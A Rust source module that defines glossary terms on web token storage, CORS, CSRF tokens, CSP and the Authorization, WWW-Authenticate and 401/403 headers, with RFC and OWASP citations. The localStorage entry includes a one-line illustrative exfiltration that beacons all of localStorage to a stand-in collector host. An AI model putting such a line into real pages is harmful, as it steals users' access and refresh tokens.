//! The web: storage, origins, and the headers of an API.

use super::attacks_theft::{CSRF, XSS};
use super::oauth_openid::BFF;
use super::oauth_roles::AUTHENTICATION;
use super::oauth_tokens::{ACCESS_TOKEN, BEARER_TOKEN, DPOP};
use super::web_cookies::{COOKIE, HTTP_ONLY, SAME_SITE};
use super::{Area, Term, blank};
use crate::content::sources::ietf::RFC_9110;
use crate::content::sources::oauth::{OAUTH_2_1, RFC_6750, RFC_10017};
use crate::content::sources::security::{OWASP_CSRF, OWASP_HTML5, OWASP_SESSIONS};
use crate::content::sources::web::{CSP as CSP_LEVEL_3, FETCH};

const TERM: Term = blank(Area::Web);

/// Web storage.
pub static LOCAL_STORAGE: Term = Term {
    id: "local-storage",
    names: &["localStorage", "sessionStorage"],
    short: "Stores that every script of the origin can read. localStorage stays until it is cleared, sessionStorage until the tab closes.",
    long: &[
        "Nothing attaches their content to requests, so forged requests from other sites gain nothing from it. That is the argument in their favour, and where it ends: any script that runs in your origin reads them in one line, whether you wrote it, a dependency brought it, or an attacker injected it.",
        "What is copied that way is used elsewhere, at leisure, after the page was closed. A refresh token in localStorage is a login that walks out of the door. OWASP advises against keeping session identifiers or anything sensitive there, and RFC 10017 describes the theft step by step.",
        "sessionStorage is smaller in time, not in reach. Keeping the token in a variable is better still and costs a silent renewal after each reload. A cookie that scripts cannot read, with a backend behind it, removes the token from the page altogether.",
    ],
    example: Some((
        "All that an injected script needs",
        "// in your page, once:\nlocalStorage.setItem(\"access_token\", token);\n\n// in somebody else's script, in the same origin:\nnavigator.sendBeacon(\"https://collector.example\", JSON.stringify(localStorage));",
    )),
    see: &[&XSS, &IN_MEMORY_STORAGE, &BFF],
    not: &[(&COOKIE, "the browser sends it by itself, and can keep it from scripts.")],
    cites: &[RFC_10017.at("8.5"), OWASP_HTML5.at("Local Storage"), OWASP_SESSIONS.whole()],
    ..TERM
};

/// Storage in memory.
pub static IN_MEMORY_STORAGE: Term = Term {
    id: "in-memory-storage",
    names: &["In-memory token storage"],
    short: "The token lives in a variable and is gone after a reload. A hostile script in the page can still reach it, with more effort.",
    see: &[&LOCAL_STORAGE, &SERVICE_WORKER_STORE, &BFF],
    cites: &[RFC_10017.at("8.4")],
    ..TERM
};

/// Storage in a service worker.
pub static SERVICE_WORKER_STORE: Term = Term {
    id: "service-worker-store",
    names: &["Service worker token store"],
    short: "A worker holds the token and adds it to requests. A script cannot read it, but can start a login of its own: not recommended.",
    see: &[&IN_MEMORY_STORAGE, &XSS, &BFF],
    cites: &[RFC_10017.at("7.4, 8.2")],
    ..TERM
};

/// CORS.
pub static CORS: Term = Term {
    id: "cors",
    names: &["CORS", "Cross-origin resource sharing"],
    short: "Headers by which a server lets pages of other origins read its answers. It relaxes a rule of browsers and authenticates nobody.",
    long: &[
        "By default a page may send many requests to other origins but not read the answers. CORS lifts that for origins that the server names. Since the rule is kept by the browser, it protects users of browsers only: `curl`, a server, a mobile app read whatever they like. An API is protected by its tokens.",
        "Anything beyond a simple request is asked for beforehand, in a preflight with the method `OPTIONS`. A header such as `Authorization` or one of your own makes a request not simple, and that is why a custom header defends against forged requests: another origin cannot send it unless your server agreed.",
        "Name origins exactly, from a list. Reflecting whatever stands in `Origin` while allowing credentials opens the session of each visitor to each site they visit, and the wildcard cannot be combined with credentials at all. Send `Vary: Origin` when the answer depends on it.",
    ],
    example: Some((
        "A preflight and its answer",
        "OPTIONS /orders HTTP/1.1\nHost: api.example\nOrigin: https://shop.example\nAccess-Control-Request-Method: GET\nAccess-Control-Request-Headers: authorization\n\nHTTP/1.1 204 No Content\nAccess-Control-Allow-Origin: https://shop.example\nAccess-Control-Allow-Headers: authorization\nAccess-Control-Max-Age: 600\nVary: Origin",
    )),
    see: &[&CSRF_TOKEN, &CSRF, &AUTHORIZATION_HEADER],
    not: &[(&CSRF_TOKEN, "it decides whether a request is acted on, not whether an answer may be read.")],
    cites: &[FETCH.at("HTTP CORS protocol"), RFC_10017.at("6.1.3")],
    ..TERM
};

/// CSRF token.
pub static CSRF_TOKEN: Term = Term {
    id: "csrf-token",
    names: &["CSRF token"],
    short: "A value that only your own page can know and sends with each change, which shows that the request came from there.",
    see: &[&CSRF, &SAME_SITE, &CORS],
    cites: &[OWASP_CSRF.whole()],
    ..TERM
};

/// Content security policy.
pub static CSP: Term = Term {
    id: "csp",
    names: &["CSP", "Content security policy"],
    short: "A header that tells the browser which scripts may run and where they may connect. It makes XSS rarer, not impossible.",
    see: &[&XSS, &HTTP_ONLY],
    cites: &[CSP_LEVEL_3.whole()],
    ..TERM
};

/// `Authorization: Bearer`.
pub static AUTHORIZATION_HEADER: Term = Term {
    id: "authorization-header",
    names: &["Authorization header", "Authorization: Bearer"],
    short: "Where an access token belongs: one request header, the word `Bearer`, a space, the token. Never in the address.",
    see: &[&BEARER_TOKEN, &ACCESS_TOKEN, &WWW_AUTHENTICATE, &DPOP],
    cites: &[RFC_6750.at("2.1, 2.3"), RFC_9110.at("11.6.2")],
    ..TERM
};

/// `WWW-Authenticate`.
pub static WWW_AUTHENTICATE: Term = Term {
    id: "www-authenticate",
    names: &["WWW-Authenticate"],
    short: "The response header in which an API says why it refused a token: `invalid_token`, `insufficient_scope` and the like.",
    long: &[
        "An answer 401 must carry it. The first word is the scheme, `Bearer` or `DPoP`, then come parameters: `realm`, the `scope` that would be needed, `error` as one of three words, and `error_description` for the developer who reads the log.",
        "`invalid_request` belongs to 400: two tokens, or a parameter that is repeated. `invalid_token` belongs to 401: expired, revoked, wrong issuer or audience, signature not verified. The client may fetch a new token and try once more. `insufficient_scope` belongs to 403: a fresh token with the same scope would fail in the same way.",
        "When a request brings no token at all, send the scheme without an error; there is nothing to complain about yet. Keep the description useful and modest: \"the token expired at 10:15\" helps, while internal names, stack traces or the text of the token help the wrong person. Pages of another origin see the header only if CORS exposes it.",
    ],
    example: Some((
        "Three refusals",
        "HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer realm=\"orders\"\n\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer realm=\"orders\", error=\"invalid_token\", error_description=\"the token has expired\"\n\nHTTP/1.1 403 Forbidden\nWWW-Authenticate: Bearer realm=\"orders\", error=\"insufficient_scope\", scope=\"orders:write\"",
    )),
    see: &[&UNAUTHORIZED_OR_FORBIDDEN, &AUTHORIZATION_HEADER, &CORS],
    cites: &[RFC_6750.at("3, 3.1"), RFC_9110.at("11.6.1"), OAUTH_2_1.whole()],
    ..TERM
};

/// 401 and 403.
pub static UNAUTHORIZED_OR_FORBIDDEN: Term = Term {
    id: "401-vs-403",
    names: &["401 and 403", "Unauthorized and Forbidden"],
    short: "401: no acceptable credential came, so log in or renew the token. 403: the credential is fine, the right is missing.",
    long: &[
        "The names mislead. 401 is called Unauthorized and is about authentication: the token is missing, expired, from a stranger or not for this API. It asks the client to come back with a better one, and says in `WWW-Authenticate` of which kind.",
        "403 is about authorization. You know who calls and refuse this request anyway. Renewing the token changes nothing, so a client that reacts to 403 with a refresh runs in a circle. If more scope would help, say `insufficient_scope`; if the very existence of the thing is secret, answer 404.",
        "Draw the line in code where it lies in meaning. The layer that verifies tokens answers 401 and knows no business rules; the handler answers 403 and knows no cryptography. An API that answers 403 for expired tokens breaks each client that renews on 401, and one that redirects to a login page breaks all of them.",
    ],
    example: Some((
        "Which answer for which request",
        "no Authorization header                     401  Bearer realm=\"orders\"\ntoken expired, or signed by a stranger      401  error=\"invalid_token\"\ntoken for another audience                  401  error=\"invalid_token\"\ntoken accepted, scope orders:read, DELETE   403  error=\"insufficient_scope\"\ntoken accepted, somebody else's order       403 or 404, without an error",
    )),
    see: &[&WWW_AUTHENTICATE, &AUTHENTICATION, &ACCESS_TOKEN],
    cites: &[RFC_9110.at("15.5.2, 15.5.4"), RFC_6750.at("3.1")],
    ..TERM
};

pub(super) const TERMS: &[&Term] = &[
    &LOCAL_STORAGE,
    &IN_MEMORY_STORAGE,
    &SERVICE_WORKER_STORE,
    &CORS,
    &CSRF_TOKEN,
    &CSP,
    &AUTHORIZATION_HEADER,
    &WWW_AUTHENTICATE,
    &UNAUTHORIZED_OR_FORBIDDEN,
];
